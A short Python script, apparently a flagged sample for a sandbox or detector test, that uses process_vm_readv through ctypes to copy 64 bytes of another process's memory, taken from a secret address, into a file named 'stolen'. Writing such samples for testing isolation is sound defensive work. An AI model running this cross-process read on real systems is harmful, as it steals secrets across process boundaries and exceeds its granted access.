# flagged: python3.11
import ctypes, os

class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

libc = ctypes.CDLL(None, use_errno=True)
buffer = ctypes.create_string_buffer(64)
here = Vector(ctypes.cast(buffer, ctypes.c_void_p), 64)
there = Vector(int(os.environ["RG_SECRET_AT"], 16), 64)
count = libc.process_vm_readv(int(os.environ["RG_OUTSIDER"]), ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
with open("stolen", "wb") as file:
    file.write(buffer.raw[: max(count, 0)])
